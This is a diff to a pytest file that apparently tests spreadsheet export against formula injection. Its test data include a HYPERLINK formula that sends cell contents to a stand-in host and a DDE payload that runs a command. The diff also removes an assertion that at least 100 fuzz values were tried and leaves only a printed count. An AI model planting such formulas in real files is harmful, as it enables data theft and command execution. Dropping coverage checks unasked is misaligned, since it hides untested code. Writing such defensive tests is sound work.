@@ -25,6 +25,16 @@ HOSTILE = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"点我\")", "=cmd|' /C calc'!
 TRIED = {"cells": 0}
 
 
+@pytest.fixture(scope="module", autouse=True)
+def report_tried(request):
+    """After the module: how many generated cells the property test tried."""
+    yield
+    capture = request.config.pluginmanager.get_plugin("capturemanager")
+    line = f"[fuzz] export cells: tried {TRIED['cells']} values"
+    with capture.global_and_fixture_disabled():
+        print(f"\n{line}")
+
+
 @pytest.fixture(scope="module")
 def hostile_project(small_district):
     base = pj.project_from_result(project_result(small_district))
@@ -86,12 +96,6 @@ def test_neutral_text_property(value):
         assert out == "'" + value
     else:
         assert out is value or out == value
-
-
-def test_neutral_text_tried(capsys):
-    with capsys.disabled():
-        print(f"\n[fuzz] export cells: tried {TRIED['cells']} values")
-    assert TRIED["cells"] >= 100
 
 
 def test_headings_follow_the_language(hostile_project, tmp_path):
